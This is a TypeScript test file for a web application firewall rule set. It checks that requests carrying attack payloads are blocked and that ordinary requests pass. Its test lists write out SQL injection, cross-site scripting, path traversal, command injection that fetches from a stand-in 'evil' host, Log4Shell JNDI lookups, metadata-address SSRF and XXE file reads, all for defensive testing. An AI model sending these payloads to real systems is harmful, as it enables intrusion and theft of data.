/** The small rule set of this package: plain attacks are refused, plain requests are not. */
import { afterAll, describe, expect, it } from 'vitest'
import { fired, makeApp } from './app.ts'

const ATTACKS: [string, string][] = [
  ['SQL', "/?id=1'%20or%20'1'='1"],
  ['SQL', '/?id=1%20UNION/**/SELECT%20password%20FROM%20users--'],
  ['SQL', "/?id=1';%20drop%20table%20users--"],
  ['SQL, double encoded', '/?id=1%2527%2520union%2520select%25201,2'],
  ['SQL', '/?id=1%20and%20sleep(5)'],
  ['NoSQL', '/?user[$ne]=x'],
  ['script', '/?q=%3Cscript%3Ealert(1)%3C/script%3E'],
  ['script', '/?q=%3Cimg%20src=x%20onerror=alert(1)%3E'],
  ['script', '/?q=javascript:alert(1)'],
  ['script, NUL', '/?q=%3Cscr%00ipt%3Ealert(1)'],
  ['traversal', '/?file=../../etc/passwd'],
  ['traversal, double encoded', '/?file=..%252f..%252fetc%252fpasswd'],
  ['traversal, Windows', '/?file=..%5c..%5cwindows%5cwin.ini'],
  ['command', '/?c=;cat%20/etc/hosts'],
  ['command', '/?c=$(whoami)'],
  ['command', '/?c=x%7C%7Cwget%20http://evil'],
  ['Log4Shell', '/?x=$%7Bjndi:ldap://evil/a%7D'],
  ['Log4Shell, nested', '/?x=$%7B$%7Blower:j%7Dndi:ldap://evil/a%7D'],
  ['prototype', '/?__proto__[admin]=1'],
  ['template', '/?n=%7B%7B7*7%7D%7D'],
  ['inner address', '/?u=http://169.254.169.254/latest/meta-data/'],
  ['file scheme', '/?u=file:///etc/hosts'],
  ['header injection', '/?u=%0d%0aSet-Cookie:%20a=b'],
]

const BENIGN = [
  '/',
  '/products/42?page=2&sort=price&q=union%20station',
  "/?name=O'Brien&city=Paris",
  '/?q=select%20a%20gift%20from%20our%20shop',
  '/?next=/account/settings&lang=de',
  '/?text=Is%201%20%3C%202%3F%20Yes%2C%20and%203%20%3E%202.',
  '/?email=ada%40example.com&date=2026-05-01T10:00:00Z',
  '/?path=docs/guide..html&v=1.2.3',
  '/?note=Please%20drop%20me%20a%20line%20when%20the%20table%20is%20free',
  '/?redirect=https://example.com/welcome?x=1',
  '/?q=C%2B%2B%20%26%20Rust%3B%20cats%20and%20dogs',
  '/?config=system&process=env',
]

describe('the embedded rules', async () => {
  const { app, decisions } = await makeApp({ crs: 'embedded', inspect_responses: true }, (inner) => {
    inner.get('/leak', (_request, reply) => reply.type('text/html').send('You have an error in your SQL syntax near'))
  })
  afterAll(() => app.close())

  it.each(ATTACKS)('%s: %s is refused', async (_kind, url) => {
    expect((await app.inject(url)).statusCode).toBe(403)
  })

  it.each(BENIGN)('%s passes', async (url) => {
    decisions.length = 0
    const { statusCode } = await app.inject(url)
    expect([statusCode, fired(decisions)]).toEqual([200, []])
  })

  it('bodies are looked at', async () => {
    const post = async (payload: object | string, type = 'application/json') =>
      (await app.inject({ method: 'POST', url: '/', headers: { 'content-type': type }, payload })).statusCode
    expect(await post({ a: { b: ["1' or '1'='1"] } })).toBe(403)
    expect(await post({ comment: 'We selected three from the list; union rules apply.', n: 3 })).toBe(200)
    expect(
      await post('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'text/xml'),
    ).toBeGreaterThanOrEqual(400)
  })

  it('so is XML, text and attributes', async () => {
    const post = async (payload: string) =>
      (await app.inject({ method: 'POST', url: '/', headers: { 'content-type': 'text/xml' }, payload })).statusCode
    expect(await post("<order><id>1' or '1'='1</id></order>")).toBe(403)
    expect(await post('<order note="&lt;script&gt;alert(1)&lt;/script&gt;"/>')).toBe(403)
    expect(await post('<order><item n="2">Tea &amp; cake</item><note>We select from the list.</note></order>')).toBe(
      200,
    )
    expect(await post(`<list>${'<item>plain</item>'.repeat(2000)}</list>`)).toBe(200)
  })

  it('character sets that hide what is sent are refused', async () => {
    const post = async (type: string) =>
      (await app.inject({ method: 'POST', url: '/', headers: { 'content-type': type }, payload: 'a=1' })).statusCode
    const form = 'application/x-www-form-urlencoded'
    expect(await post(`${form}; charset=ibm037`)).toBe(403)
    expect(await post(`${form}; Charset = "UTF-7"`)).toBe(403)
    for (const usual of ['', '; charset=UTF-8', ';charset="utf-8"', '; charset=iso-8859-1', '; charset=windows-1252'])
      expect([usual, await post(form + usual)]).toEqual([usual, 200])
  })

  it('so are methods, headers and responses', async () => {
    expect((await app.inject({ url: '/', headers: { 'user-agent': 'sqlmap/1.7' } })).statusCode).toBe(403)
    expect((await app.inject({ url: '/', headers: { 'x-api': '${jndi:ldap://a}' } })).statusCode).toBe(403)
    expect((await app.inject({ method: 'TRACE', url: '/' })).statusCode).toBe(403)
    expect((await app.inject('/leak')).statusCode).toBe(403)
  })
})

it('levels and thresholds hold for them', async () => {
  const url = '/?q=%3Cb%3Ebold%3C/b%3E'
  const one = await makeApp({ crs: 'embedded' })
  expect((await one.app.inject(url)).statusCode).toBe(200)
  const two = await makeApp({ crs: 'embedded', paranoia_level: 2, anomaly_threshold_inbound: 4 })
  expect((await two.app.inject(url)).statusCode).toBe(403)
  const methods = await makeApp({ crs: 'embedded', crs_settings: { allowed_methods: 'GET' } })
  expect((await methods.app.inject({ method: 'POST', url: '/' })).statusCode).toBe(403)
  await Promise.all([one, two, methods].map(({ app }) => app.close()))
})
